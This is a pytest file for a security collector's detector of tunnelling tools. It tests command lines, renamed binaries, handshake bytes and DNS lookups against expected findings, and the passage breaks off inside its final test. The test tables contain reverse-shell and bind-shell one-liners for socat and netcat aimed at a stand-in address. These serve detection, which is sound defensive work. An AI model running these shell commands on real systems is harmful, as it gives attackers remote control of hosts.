# SPDX-License-Identifier: Apache-2.0
"""tunnel.tool on real command lines and first payloads of each catalogued tool, renamed, and benign look-alikes."""

from __future__ import annotations

import dataclasses
import struct
import time
import tomllib
from importlib import resources

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from collector.detect import Severity, State, default_detectors
from collector.detect.protocols.tunnel_handshakes import HANDSHAKES, Handshake, classify
from collector.detect.tunnel.tool import SOCAT, TOOLS, ToolDetector, identify
from collector.enrich.process import ProcessTable
from probes.events import DnsEvent, Kind
from tests.factories import common, exec_event, payload_event, proc_event

STATE = State(ProcessTable())
DETECT = ToolDetector().detect
H, M = Severity.HIGH, Severity.MEDIUM

# (argv, exe, tool, severity). Command lines from each tool's README or --help (sources in tunnel_tools.toml).
TUNNELS = [
    # chisel README: `chisel client --help` examples
    (["chisel", "client", "https://203.0.113.5:8080", "R:2222:localhost:22"], "/usr/local/bin/chisel", "chisel", H),
    (["chisel", "client", "--auth", "u:p", "203.0.113.5:8080", "R:socks"], "/usr/local/bin/chisel", "chisel", H),
    (["chisel", "client", "--fingerprint", "x=", "203.0.113.5:8080", "R:0.0.0.0:80:127.0.0.1:8000"], None, "chisel", H),
    (["chisel", "client", "203.0.113.5:8080", "3000:google.com:80"], "/usr/local/bin/chisel", "chisel", M),
    (["chisel", "client", "203.0.113.5:8080", "socks"], "/usr/local/bin/chisel", "chisel", M),
    (["chisel", "server", "--reverse", "--port", "9001"], "/usr/local/bin/chisel", "chisel", M),
    # frp README / cmd/frpc/sub
    (["frpc", "-c", "./frpc.toml"], "/opt/frp/frpc", "frp", H),
    (["./frpc"], "/tmp/frp_0.58.0_linux_amd64/frpc", "frp", H),
    (["frpc", "tcp", "-s", "203.0.113.5", "-P", "7000", "-l", "22", "-r", "6000", "-n", "ssh"], "/opt/frpc", "frp", H),
    (["frps", "-c", "frps.toml"], "/opt/frp/frps", "frps", M),
    # ngrok docs: agent CLI
    (["ngrok", "http", "8080"], "/usr/local/bin/ngrok", "ngrok", H),
    (["ngrok", "tcp", "22"], "/usr/local/bin/ngrok", "ngrok", H),
    (["ngrok", "--log", "stdout", "tls", "443"], "/usr/local/bin/ngrok", "ngrok", H),
    (["ngrok", "http", "80", "--url", "demo.ngrok.app"], "/usr/local/bin/ngrok", "ngrok", H),
    (["ngrok", "start", "--all"], "/usr/local/bin/ngrok", "ngrok", H),
    (["ngrok", "service", "install", "--config", "/etc/ngrok.yml"], "/usr/local/bin/ngrok", "ngrok", H),
    # cloudflared: quick tunnel, named tunnel, token, legacy, access
    (["cloudflared", "tunnel", "--url", "http://localhost:8000"], "/usr/local/bin/cloudflared", "cloudflared", H),
    (["cloudflared", "tunnel", "run", "mytunnel"], "/usr/bin/cloudflared", "cloudflared", H),
    (["cloudflared", "--no-autoupdate", "tunnel", "run", "--token", "eyJhIjoi"], None, "cloudflared", H),
    (["cloudflared", "tunnel", "--config", "/etc/cloudflared/config.yml"], "/usr/bin/cloudflared", "cloudflared", H),
    (["cloudflared", "service", "install", "eyJhIjoi"], "/usr/bin/cloudflared", "cloudflared", H),
    (["cloudflared", "--url", "localhost:8080"], "/usr/bin/cloudflared", "cloudflared", H),
    (["cloudflared", "access", "tcp", "--hostname", "db.example.com", "--url", "localhost:5432"],
     None, "cloudflared", M),
    # bore README
    (["bore", "local", "8000", "--to", "bore.pub"], "/usr/local/bin/bore", "bore", H),
    (["bore", "local", "5000", "--to", "bore.pub", "--secret", "s"], "/usr/local/bin/bore", "bore", H),
    (["bore", "server", "--secret", "my_secret_string"], "/usr/local/bin/bore", "bore", M),
    # gost README_en
    (["gost", "-L=rtcp://:2222/192.168.1.1:22", "-F=socks5://172.24.10.1:1080"], "/usr/bin/gost", "gost", H),
    (["gost", "-L", "rtcp://:2222/:22", "-F", "forward+ssh://203.0.113.5:2222"], "/usr/bin/gost", "gost", H),
    (["gost", "-L=rudp://:5353/192.168.1.1:53?ttl=60"], "/usr/bin/gost", "gost", H),
    (["gost", "-L", "tun://:8421?net=192.168.123.2/24"], "/usr/bin/gost", "gost", H),
    (["gost", "-L=tcp://:2222/192.168.1.1:22"], "/usr/bin/gost", "gost", M),
    (["gost", "-L", "socks5://:1080"], "/usr/bin/gost", "gost", M),
    # ligolo-ng README: agent and proxy (release binaries `agent` and `proxy` are in RENAMED: too generic to list)
    (["ligolo-agent", "--connect", "203.0.113.5:11601", "--accept-fingerprint", "AB12"], None, "ligolo-ng", H),
    # ligolo (sysdream) README
    (["./ligolo", "-relayserver", "203.0.113.5:5555", "-skipverify"], "/tmp/ligolo", "ligolo", H),
    (["./localrelay", "-localserver", "127.0.0.1:1080", "-relayserver", "0.0.0.0:5555"], None, "ligolo", M),
    # rathole cli.rs
    (["rathole", "client.toml"], "/usr/local/bin/rathole", "rathole", H),
    (["rathole", "--client", "client.toml"], "/usr/local/bin/rathole", "rathole", H),
    (["rathole", "-s", "server.toml"], "/usr/local/bin/rathole", "rathole", M),
    # wstunnel README
    (["wstunnel", "client", "-R", "tcp://8000:localhost:8000", "wss://203.0.113.5:443"], None, "wstunnel", H),
    (["wstunnel", "client", "--remote-to-local", "socks5://[::1]:1212", "ws://203.0.113.5"], None, "wstunnel", H),
    (["wstunnel", "client", "-L", "socks5://127.0.0.1:8888", "wss://203.0.113.5:443"], None, "wstunnel", M),
    (["wstunnel", "server", "wss://[::]:8080"], "/usr/bin/wstunnel", "wstunnel", M),
    # localtunnel README: installed globally (a node script) and through npx
    (["node", "/usr/local/bin/lt", "--port", "8000"], "/usr/bin/node", "localtunnel", H),
    (["node", "/usr/bin/npx", "localtunnel", "--port", "8000"], "/usr/bin/node", "localtunnel", H),
    (["lt", "-p", "3000", "-s", "myapp"], None, "localtunnel", H),
    # pwnat README
    (["./pwnat", "-s"], "/tmp/pwnat", "pwnat", H),
    (["./pwnat", "-c", "8000", "pwnat.server.com", "google.com", "80"], "/tmp/pwnat", "pwnat", H),
    # httptunnel README
    (["htc", "-F", "2323", "-P", "proxy:8000", "203.0.113.5:8888"], "/usr/bin/htc", "httptunnel", H),
    (["hts", "-F", "localhost:23", "8888"], "/usr/bin/hts", "hts", M),
    # corkscrew and proxytunnel READMEs, as ssh's ProxyCommand runs them
    (["/usr/local/bin/corkscrew", "proxy.example.com", "8080", "203.0.113.5", "22"], None, "corkscrew", M),
    (["proxytunnel", "-E", "-p", "proxy:8080", "-P", "user", "-d", "mybox.athome.nl:443"], None, "proxytunnel", M),
    # iodine README
    (["iodine", "-f", "-P", "secretpassword", "t1.mydomain.com"], "/usr/sbin/iodine", "iodine", H),
    (["iodined", "-f", "-c", "-P", "secretpassword", "192.168.99.1", "t1.mydomain.com"], None, "iodine", H),
    # ptunnel-ng README and ptunnel(8)
    (["ptunnel-ng", "-p203.0.113.5", "-l2222", "-r10.0.3.1", "-R22"], "/usr/sbin/ptunnel-ng", "ptunnel", H),
    (["ptunnel-ng", "-r10.0.3.1", "-R22"], "/usr/sbin/ptunnel-ng", "ptunnel", H),
    (["ptunnel", "-p", "203.0.113.5", "-lp", "8000", "-da", "10.0.0.1", "-dp", "22"], None, "ptunnel", H),
    # dnscat2 README
    (["./dnscat", "--dns", "server=8.8.8.8,domain=skullseclabs.org"], "/tmp/dnscat", "dnscat2", H),
    (["ruby", "./dnscat2.rb", "skullseclabs.org"], "/usr/bin/ruby3.1", "dnscat2", H),
    # udp2raw README
    (["./udp2raw_amd64", "-c", "-l0.0.0.0:3333", "-r44.55.66.77:4096", "-k", "passwd", "--raw-mode", "faketcp", "-a"],
     "/tmp/udp2raw_amd64", "udp2raw", H),
    # stunnel3 syntax through Debian's wrapper script
    (["/usr/bin/perl", "/usr/bin/stunnel3", "-c", "-d", "127.0.0.1:8080", "-r", "203.0.113.5:443"], "/usr/bin/perl",
     "stunnel", M),
    # VS Code CLI (code.visualstudio.com/docs/remote/tunnels), the desktop script and its bundled code-tunnel
    (["code", "tunnel"], "/usr/local/bin/code", "vscode-tunnel", H),
    (["code", "tunnel", "--accept-server-license-terms", "--name", "gpu-7"], "/usr/local/bin/code", "vscode-tunnel", H),
    (["code", "tunnel", "service", "install"], "/usr/local/bin/code", "vscode-tunnel", H),
    (["/usr/bin/env", "sh", "/usr/bin/code", "tunnel"], "/usr/bin/dash", "vscode-tunnel", H),
    (["/usr/share/code/bin/code-tunnel", "tunnel", "--accept-server-license-terms"], None, "vscode-tunnel", H),
    # socat: man socat EXAMPLES and the usual reverse-shell one-liners
    (["socat", "TCP:203.0.113.5:4444", "EXEC:/bin/sh"], "/usr/bin/socat", "socat", H),
    (["socat", "tcp-connect:203.0.113.5:4444", "exec:'bash -li',pty,stderr,setsid,sigint,sane"], None, "socat", H),
    (["socat", "-d", "-d", "TCP4-LISTEN:4444,reuseaddr,fork", "SYSTEM:'/bin/bash -i'"], "/usr/bin/socat", "socat", H),
    (["socat", "OPENSSL:203.0.113.5:443,verify=0", "EXEC:/bin/bash"], "/usr/bin/socat", "socat", H),
    (["socat", "-b", "8192", "UDP:203.0.113.5:53", "TUN:10.0.0.2/24,up"], "/usr/bin/socat", "socat", H),
    (["socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:10.0.0.5:80"], "/usr/bin/socat", "socat", M),
    (["socat", "TCP-LISTEN:2375,fork", "UNIX-CONNECT:/var/run/docker.sock"], "/usr/bin/socat", "socat", M),
    (["socat", "-T", "30", "UDP4-LISTEN:53,fork", "UDP:8.8.8.8:53"], "/usr/bin/socat", "socat", M),
    # netcats: -e / -c / --sh-exec / --lua-exec in the spellings getopt accepts
    (["ncat", "-e", "/bin/sh", "203.0.113.5", "4444"], "/usr/bin/ncat", "netcat", H),
    (["ncat", "203.0.113.5", "4444", "-e", "/bin/sh"], "/usr/bin/ncat", "netcat", H),  # getopt permutes argv
    (["nc", "-e/bin/bash", "203.0.113.5", "4444"], "/usr/bin/ncat", "netcat", H),
    (["nc", "-nve", "/bin/sh", "203.0.113.5", "4444"], "/usr/bin/ncat", "netcat", H),
    (["ncat", "-lvp", "4444", "-e", "/bin/bash"], "/usr/bin/ncat", "netcat", H),  # a bind shell
    (["ncat", "--sh-exec", "ncat 10.0.0.5 22", "-l", "2222", "--keep-open"], "/usr/bin/ncat", "netcat", H),
    (["ncat", "--sh-e=bash -i", "203.0.113.5", "4444"], "/usr/bin/ncat", "netcat", H),  # a unique long prefix
    (["ncat", "--lua-exec", "shell.lua", "203.0.113.5", "4444"], "/usr/bin/ncat", "netcat", H),
    (["nc.traditional", "-c", "/bin/sh", "203.0.113.5", "4444"], "/usr/bin/nc.traditional", "netcat", H),
    (["busybox", "nc", "203.0.113.5", "4444", "-e", "/bin/sh"], "/usr/bin/busybox", "netcat", H),
    (["ncat", "-l", "3128", "--proxy-type", "http"], "/usr/bin/ncat", "netcat", M),
    (["ncat", "-l", "8080", "--broker"], "/usr/bin/ncat", "netcat", M),
]

# Renamed binaries: the same tools copied under another name, known by their argv markers alone.
RENAMED = [
    (["./upd", "client", "https://203.0.113.5:8080", "R:2222:localhost:22"], "/tmp/.x/upd", "chisel", H),
    (["kworker", "server", "--reverse", "-p", "8080"], "/dev/shm/kworker", "chisel", M),
    (["svc", "tcp", "--server_addr", "203.0.113.5", "--local_port", "22", "--remote_port", "60"], "/tmp/s", "frp", H),
    (["x", "http", "8080", "--authtoken", "2abc"], "/tmp/x", "ngrok", H),
    (["cf", "tunnel", "--url", "http://localhost:8000"], "/tmp/cf", "cloudflared", H),
    (["cf", "tunnel", "run", "--token", "eyJhIjoi"], "/tmp/cf", "cloudflared", H),
    (["b", "local", "8000", "--to", "bore.pub"], "/tmp/b", "bore", H),
    (["g", "-L=rtcp://:2222/:22", "-F", "relay+wss://203.0.113.5:443"], "/tmp/g", "gost", H),
    (["g", "-L", "tcp://:8080/10.0.0.5:80"], "/tmp/g", "gost", M),
    (["./agent", "-connect", "203.0.113.5:11601", "-ignore-cert"], "/tmp/agent", "ligolo-ng", H),
    (["./proxy", "-selfcert", "-laddr", "0.0.0.0:11601"], "/tmp/proxy", "ligolo-ng", M),
    (["a", "-connect", "203.0.113.5:11601", "-retry"], "/tmp/a", "ligolo-ng", H),
    (["p", "-selfcert"], "/tmp/p", "ligolo-ng", M),
    (["l", "-relayserver", "203.0.113.5:5555", "-autorestart"], "/tmp/l", "ligolo", H),
    (["w", "client", "-R", "tcp://8000:localhost:8000", "wss://203.0.113.5"], "/tmp/w", "wstunnel", H),
    (["node", "/srv/app/t.js", "--port", "8000", "--subdomain", "myapp"], "/usr/bin/node", "localtunnel", H),
    (["ping2", "-p", "203.0.113.5", "-lp", "8000", "-da", "10.0.0.1", "-dp", "22"], "/tmp/ping2", "ptunnel", H),
    (["d", "--dns", "server=8.8.8.8,domain=skullseclabs.org"], "/tmp/d", "dnscat2", H),
    (["u", "-c", "-l0.0.0.0:3333", "-r44.55.66.77:4096", "--raw-mode", "icmp"], "/tmp/u", "udp2raw", H),
    (["vscode", "tunnel", "--name", "gpu", "--accept-server-license-terms"], "/opt/vscode", "vscode-tunnel", H),
    (["relay", "TCP:203.0.113.5:4444", "EXEC:/bin/sh"], "/tmp/relay", "socat", H),
    (["relay", "TCP-LISTEN:8080,fork", "TCP:10.0.0.5:80"], "/tmp/relay", "socat", M),
]

# Benign: help, version, management, interactive use, scans and listeners, and other programs' look-alikes.
BENIGN = [
    (["ncat", "-z", "127.0.0.1", "22"], "/usr/bin/ncat"),
    (["nc", "-zv", "10.0.0.5", "80-443"], "/usr/bin/ncat"),
    (["nc", "-l", "-p", "8080"], "/usr/bin/ncat"),
    (["nc", "-lk", "9000"], "/usr/bin/nc.openbsd"),
    (["nc", "10.0.0.5", "80"], "/usr/bin/ncat"),
    (["nc", "-o", "-e.log", "10.0.0.5", "80"], "/usr/bin/ncat"),  # -e.log is -o's value
    (["ncat", "--output", "-e.log", "10.0.0.5", "80"], "/usr/bin/ncat"),  # ... and --output's
    (["nc", "--", "10.0.0.5", "-e"], "/usr/bin/ncat"),  # after --: not an option
    (["nc.openbsd", "-X", "connect", "-x", "proxy:3128", "10.0.0.5", "22"], "/usr/bin/nc.openbsd"),
    (["ncat", "--chat", "-l", "8888"], "/usr/bin/ncat"),
    (["socat", "-", "TCP:10.0.0.5:80"], "/usr/bin/socat"),
    (["socat", "STDIO", "OPENSSL:10.0.0.5:443"], "/usr/bin/socat"),
    (["socat", "READLINE", "TCP:10.0.0.5:25"], "/usr/bin/socat"),
    (["socat", "PTY,link=/tmp/ttyV0,raw", "PTY,link=/tmp/ttyV1,raw"], "/usr/bin/socat"),
    (["socat", "/dev/ttyUSB0,b115200,raw", "-"], "/usr/bin/socat"),
    (["socat", "-u", "FILE:/var/log/syslog", "CREATE:/tmp/copy"], "/usr/bin/socat"),
    (["socat", "UNIX-LISTEN:/tmp/a.sock,fork", "UNIX-CONNECT:/tmp/b.sock"], "/usr/bin/socat"),
    (["socat", "-V"], "/usr/bin/socat"),
    (["python3", "-m", "http.server", "8000"], "/usr/bin/python3.11"),
    (["cloudflared", "--version"], "/usr/bin/cloudflared"),
    (["cloudflared", "version"], "/usr/bin/cloudflared"),
    (["cloudflared", "tunnel", "list"], "/usr/bin/cloudflared"),
    (["cloudflared", "tunnel", "--config", "c.yml", "route", "dns", "t", "x.example.com"], "/usr/bin/cloudflared"),
    (["cloudflared", "tunnel", "login"], "/usr/bin/cloudflared"),
    (["ngrok", "version"], "/usr/local/bin/ngrok"),
    (["ngrok", "config", "add-authtoken", "2abc"], "/usr/local/bin/ngrok"),
    (["ngrok", "http", "--help"], "/usr/local/bin/ngrok"),
    (["code", "--version"], "/usr/bin/code"),
    (["code", "."], "/usr/bin/code"),
    (["code", "--install-extension", "ms-python.python"], "/usr/bin/code"),
    (["code", "tunnel", "user", "login", "--provider", "github"], "/usr/local/bin/code"),
    (["code", "tunnel", "status"], "/usr/local/bin/code"),
    (["frpc", "--version"], "/opt/frpc"),
    (["frpc", "verify", "-c", "frpc.toml"], "/opt/frpc"),
    (["chisel", "--help"], "/usr/local/bin/chisel"),
    (["chisel", "client", "--help"], "/usr/local/bin/chisel"),
    (["bore", "--help"], "/usr/local/bin/bore"),
    (["rathole", "--genkey"], "/usr/local/bin/rathole"),
    (["ssh", "-R", "8080:localhost:80", "host"], "/usr/bin/ssh"),  # tunnel.ssh_reverse's, not this rule's
    (["curl", "-L", "https://example.com/x.tar.gz"], "/usr/bin/curl"),
    (["openssl", "s_client", "-connect", "example.com:443", "-servername", "example.com"], "/usr/bin/openssl"),
    (["ffmpeg", "-i", "udp://239.0.0.1:1234/stream", "out.ts"], "/usr/bin/ffmpeg"),
    (["grep", "-r", "R:2222", "client", "."], "/usr/bin/grep"),
    (["git", "clone", "https://github.com/jpillora/chisel"], "/usr/bin/git"),
    (["kubectl", "port-forward", "svc/web", "8080:80"], "/usr/local/bin/kubectl"),
    (["docker", "run", "-p", "8080:80", "nginx"], "/usr/bin/docker"),
    (["sh", "-c", "socat TCP:203.0.113.5:4444 EXEC:/bin/sh"], "/usr/bin/dash"),  # the inner socat is its own exec
]


def _ids(table: list[tuple[object, ...]]) -> list[str]:
    return [" ".join(row[0])[:60] for row in table]  # type: ignore[call-overload]


def _script(argv: list[str]) -> dict[str, str]:
    """For a script run by its interpreter the kernel's exec'd path is the script (argv[1] or argv[2])."""
    scripts = ("lt", "code", "stunnel3")
    script = next((a for a in argv[1:3] if a.startswith("/") and a.rsplit("/", 1)[-1] in scripts), None)
    return {"filename": script} if script else {}


@pytest.mark.parametrize(("argv", "exe", "tool", "severity"), TUNNELS, ids=_ids(TUNNELS))
def test_tunnel_tool(argv: list[str], exe: str | None, tool: str, severity: Severity) -> None:
    """Each tool's documented command lines raise one tunnel.tool finding naming the tool, at its mode's severity."""
    (finding,) = DETECT(exec_event(argv, exe=exe, **_script(argv)), STATE)
    assert finding.rule.id == "tunnel.tool" and finding.evidence["tool"] == tool
    assert finding.level == severity, finding.evidence["mode"]
    assert finding.evidence["renamed"] is False


@pytest.mark.parametrize(("argv", "exe", "tool", "severity"), RENAMED, ids=_ids(RENAMED))
def test_renamed_binary(argv: list[str], exe: str, tool: str, severity: Severity) -> None:
    """A tool copied under another name is still named, by its subcommands and spec syntax, at the same severity."""
    (finding,) = DETECT(exec_event(argv, exe=exe), STATE)
    assert (finding.evidence["tool"], finding.level, finding.evidence["renamed"]) == (tool, severity, True)


@pytest.mark.parametrize(("argv", "exe"), BENIGN, ids=_ids(BENIGN))
def test_benign_is_silent(argv: list[str], exe: str) -> None:
    """Help, version, management, scans, listeners, interactive socat and look-alike argv raise nothing."""
    assert DETECT(exec_event(argv, exe=exe), STATE) == []


def test_evidence_quotes_the_markers() -> None:
    """The finding says which arguments decided it and what the tool does, and the summary names the process."""
    event = exec_event(["chisel", "client", "203.0.113.5:8080", "R:2222:localhost:22"], exe="/usr/local/bin/chisel")
    (finding,) = DETECT(event, STATE)
    assert finding.evidence["markers"] == ["client", "R:2222:localhost:22"]
    assert "reverse remote" in finding.evidence["mode"] and "pid 4242" in finding.summary


# First bytes on the wire. chisel: gorilla/websocket's Dialer writes Go's sorted headers (client_connect.go);
# wstunnel: hyper's lower-case headers (transport/websocket.rs connect()); bore: shared.rs Delimited JSON;
# httptunnel: http.c http_method(); frp: dial.go DialHookCustomTLSHeadByte.
CHISEL = (
    b"GET / HTTP/1.1\r\nHost: 203.0.113.5:8080\r\nUser-Agent: Go-http-client/1.1\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: chisel-v3\r\n"
    b"Sec-WebSocket-Version: 13\r\nUpgrade: websocket\r\n\r\n"
)
WSTUNNEL = (
    b"GET /v1/events HTTP/1.1\r\nhost: 203.0.113.5:443\r\nupgrade: websocket\r\nconnection: upgrade\r\n"
    b"sec-websocket-key: x3JJHMbDL1EzLkh9GBhXDw==\r\nsec-websocket-version: 13\r\nsec-websocket-protocol: v1, "
    b"authorization.bearer.eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJpZCI6IjAxOTBh"
)
TLS_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32)
PAYLOADS = [
    (CHISEL, "chisel", H),
    (CHISEL.replace(b"chisel-v3", b"chisel-v2"), "chisel", H),
    (WSTUNNEL[:256], "wstunnel", H),  # cut where the probe cuts it
    (b'{"Hello":8000}\x00', "bore", H),
    (b'{"Hello":0}\x00', "bore", H),
    (b'{"Accept":"4d1b5f4e-0e57-4b3b-9f7e-3f8bd2ab7c1e"}\x00', "bore", H),
    (b"POST /index.html?crap=1700000000 HTTP/1.1\r\nHost: 203.0.113.5:8888\r\nContent-Length: 102400\r\n", "httptunnel",
     H),
    (b"GET http://203.0.113.5:8888/index.html?crap=1700000001 HTTP/1.1\r\nHost: 203.0.113.5:8888\r\n", "httptunnel", H),
    (b"\x17", "frp", H),
]
NOT_PAYLOADS = [
    CHISEL.replace(b"chisel-v3", b"chat, superchat"),
    b"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
    b"GET /x HTTP/1.1\r\nX-Note: Sec-WebSocket-Protocol: chisel-v3\r\n\r\n",  # in another header's value
    b"POST /index.html HTTP/1.1\r\nHost: example.com\r\n\r\n",
    b'{"id":1,"method":"mining.subscribe","params":[]}\n',
    b'{"Hello":8000}',  # no terminator: not bore's frame
    TLS_HELLO,  # from a process that is not stunnel
    b"\x17\x03\x03\x00\x10",
    b"",
]


@pytest.mark.parametrize(("data", "tool", "severity"), PAYLOADS, ids=[p[1] + str(i) for i, p in enumerate(PAYLOADS)])
def test_handshake(data: bytes, tool: str, severity: Severity) -> None:
    """A tool's first bytes on a connection name the tool, whatever the process is called."""
    (finding,) = DETECT(payload_event(data, dport=8080, comm="kworker"), STATE)
    assert (finding.evidence["tool"], finding.level) == (tool, severity)
    assert finding.evidence["payload_head"].startswith(data[:8].decode("utf-8", "backslashreplace"))


@pytest.mark.parametrize("data", NOT_PAYLOADS)
def test_not_a_handshake(data: bytes) -> None:
    """Ordinary HTTP, WebSocket, JSON-RPC and TLS first bytes raise nothing."""
    assert DETECT(payload_event(data), STATE) == []


def test_frp_head_byte_only_alone() -> None:
    """frp's 0x17 counts only as a whole one-byte write, not as the head of a longer one."""
    cut = dataclasses.replace(payload_event(b"\x17"), len_raw=300)
    assert DETECT(cut, STATE) == []


def test_stunnel_client_mode_is_its_client_hello() -> None:
    """A TLS ClientHello sent by stunnel (known from the process table) is stunnel in client mode: medium."""
    table = ProcessTable()
    table.apply(proc_event(4242, 1, ("stunnel4", "/etc/stunnel/c.conf"), exe="/usr/bin/stunnel4"))
    (finding,) = DETECT(payload_event(TLS_HELLO, dport=443), State(table))
    assert (finding.evidence["tool"], finding.evidence["handshake"], finding.level) == ("stunnel", "stunnel-client", M)


def test_registered_for_exec_payload_and_dns() -> None:
    """The detector is in the default set and is offered exec, payload and DNS events."""
    (tool,) = [d for d in default_detectors() if d.rule.id == "tunnel.tool"]
    assert tool.rule.consumes == {Kind.EXEC, Kind.PAYLOAD, Kind.DNS}


def _query(name: str, pid: int = 4242, qtype: int = 1) -> DnsEvent:
    """A query for ``name`` as a stub resolver sends it (RFC 1035 4.1: header, one question)."""
    qname = b"".join(bytes([len(label)]) + label.encode() for label in name.rstrip(".").split(".")) + b"\0"
    data = struct.pack("!6H", 0x4242, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", qtype, 1)
    return DnsEvent(**common(pid=pid), fd=5, direction="query", proto="udp", family="ipv4", server="10.96.0.10",
                    port=53, syscall="sendmmsg", len_raw=len(data), data=data)  # fmt: skip


@pytest.mark.parametrize(
    ("name", "tool", "domain"),
    [
        ("connect.ngrok-agent.com", "ngrok", "connect.ngrok-agent.com"),
        ("Region1.v2.ArgoTunnel.com", "cloudflared", "argotunnel.com"),  # any case (RFC 4343)
        ("random-words-here.trycloudflare.com", "cloudflared", "trycloudflare.com"),
        ("bore.pub", "bore", "bore.pub"),
        ("fuzzy-cat-12.loca.lt", "localtunnel", "loca.lt"),
        ("abc123-8000.euw.devtunnels.ms", "vscode-tunnel", "devtunnels.ms"),
    ],
)
def test_rendezvous_domain_lookup_is_medium(name: str, tool: str, domain: str) -> None:
    """A query for a name under a tool's rendezvous domain is tunnel.tool, medium, once per process and tool."""
    detector = ToolDetector()
    (finding,) = detector.detect(_query(name), STATE)
    assert finding.level is Severity.MEDIUM and finding.evidence["tool"] == tool
    assert finding.evidence["domain"] == domain and finding.evidence["qtype"] == "A"
    assert detector.detect(_query(name, qtype=28), STATE) == []  # its AAAA twin
    assert len(detector.detect(_query(name, pid=4343), STATE)) == 1  # another process


@pytest.mark.parametrize(
    "name", ["ngrok.com", "notbore.pub", "trycloudflare.com.evil.example", "example.com", "argotunnel.co"]
)
def test_other_names_are_no_rendezvous(name: str) -> None:
    """Names that only look alike (another label, a prefix, a longer suffix) raise nothing."""
    assert ToolDetector().detect(_query(name), STATE) == []


def test_answers_and_garbage_are_ignored() -> None:
    """An answer, or a query that does not parse, raises nothing here."""
    event = dataclasses.replace(_query("bore.pub"), direction="answer")
    assert ToolDetector().detect(event, STATE) == []
    assert ToolDetector().detect(dataclasses.replace(event, direction="query", data=b"\x00"), STATE) == []


def test_catalogue_cites_its_sources() -> None:
    """Every catalogue entry names its public source and what in it was relied on; ssh-family tools are not here."""
    raw = tomllib.loads(resources.files("collector.detect.data").joinpath("tunnel_tools.toml").read_text())
    entries = [*raw["tool"], raw["socat"], *raw["netcat"], *raw["handshake"]]
    assert all(e["source"].strip() and (e.get("relied_on") or e.get("what")) for e in entries)
    names = {n for t in TOOLS for n in t.names} | SOCAT.names
    assert not names & {"ssh", "autossh", "plink", "dbclient", "sshuttle"}
    assert all(m.severity in (H, M) for t in TOOLS for m in t.modes)
    assert {h.tool for h in HANDSHAKES} <= {t.id for t in TOOLS}
    assert all(d and " " not in d and not d.startswith(".") for t in TOOLS for d in t.domains)


# Properties.
_NOT_TOOL = st.text("abcdefghijklmnopqrstuvwxyz0123456789_", min_size=1, max_size=12).filter(
    lambda n: n not in {"lt", "hts", "htc", "code", "nc", "bore", "gost", "frpc", "frps", "socat", "ncat", "ngrok"}
)


@settings(max_examples=200, deadline=None)
@given(row=st.sampled_from(RENAMED), name=_NOT_TOOL)
def test_renaming_does_not_matter(row: tuple[list[str], str, str, Severity], name: str) -> None:
    """Whatever name a renamed tool is given, the same argv gives the same tool and severity."""
    argv, _exe, tool, severity = row
    argv = [name, *argv[1:]] if argv[0] != "node" else argv
    found = identify(exec_event(argv, exe=f"/tmp/{name}" if argv[0] != "node" else "/usr/bin/node"))
    assert found is not None and (found[0].tool, found[0].severity) == (tool, severity)


@settings(max_examples=200, deadline=None)
@given(base=st.sampled_from([["203.0.113.5", "4444"], ["-v", "-n", "203.0.113.5", "4444"], ["-l", "-p", "4444"]]),
       at=st.integers(0, 4), spelling=st.sampled_from([["-e", "/bin/sh"], ["-e/bin/sh"], ["--exec=/bin/sh"],
                                                      ["--sh-exec", "sh -i"], ["-c", "sh -i"], ["--ex", "/bin/sh"]]))
def test_netcat_exec_anywhere(base: list[str], at: int, spelling: list[str]) -> None:
    """ncat runs a program whichever spelling of -e/-c it is given and wherever it stands among the options."""
    i = min(at, len(base))
    if i and base[i - 1] == "-p":
        i -= 1  # not between -p and its value
    argv = ["ncat", *base[:i], *spelling, *base[i:]]
    (finding,) = DETECT(exec_event(argv, exe="/usr/bin/ncat"), STATE)
    assert finding.level == H


@settings(max_examples=100, deadline=None)
@given(row=st.sampled_from([r for r in TUNNELS if r[2] == "socat"]))
def test_socat_address_order(row: tuple[list[str], str | None, str, Severity]) -> None:
    """socat's two addresses may come in either order: the severity is the same."""
    argv, exe, _tool, severity = row
    swapped = [*argv[:-2], argv[-1], argv[-2]]
    (finding,) = DETECT(exec_event(swapped, exe=exe), STATE)
    assert finding.level == severity


@settings(max_examples=300, deadline=None)
@given(args=st.lists(st.text(min_size=0, max_size=40), max_size=12),
       name=st.sampled_from(["socat", "ncat", "nc", "chisel", "cloudflared", "gost", "x", "code", "node"]))
def test_any_argv_never_raises(args: list[str], name: str) -> None:
    """Any argv, control characters included, gives no finding or one at medium or high, never an exception."""
    findings = DETECT(exec_event([name, *args], exe=f"/usr/bin/{name}"), STATE)
    assert len(findings) <= 1 and all(f.level in (H, M) for f in findings)


@settings(max_examples=300, deadline=None)
@given(data=st.binary(max_size=600), cut=st.booleans())
def test_any_payload_never_raises(data: bytes, cut: bool) -> None:
    """Any first bytes give a handshake or none, never an exception."""
    for sender in (frozenset(), frozenset({"stunnel4"})):
        assert isinstance(classify(data, cut, sender), Handshake | None)


@settings(max_examples=100, deadline=None)
@given(extra=st.lists(st.sampled_from([b"Origin: http://x", b"Cookie: a=b", b"X-Forwarded-For: 10.0.0.1"]), max_size=3),
       tail=st.binary(max_size=200))
def test_chisel_upgrade_survives_extra_headers(extra: list[bytes], tail: bytes) -> None:
    """chisel's upgrade is recognised with other headers before its subprotocol and any bytes after the head."""
    head = CHISEL.replace(b"Connection:", b"\r\n".join([*extra, b"Connection:"]), 1) + tail
    hs = classify(head, truncated=False)
    assert hs is not None and hs.tool == "chisel"


def test_huge_argv_is_linear() -> None:
    """64 KiB arguments with control characters are cut to the kernel's bound and matched in linear time."""
    big = "R:" + "\x01\n\t" * 22_000
    argv = ["chisel", "client", "203.0.113.5:8080", *[big] * 600]
    start = time.perf_counter()
    (finding,) = DETECT(exec_event(argv, exe="/usr/local/bin/chisel"), STATE)
    nc = DETECT(exec_event(["ncat", *["-" + "v" * 65536] * 100, "-e", "/bin/sh", "h", "1"], exe="/usr/bin/ncat"), STATE)
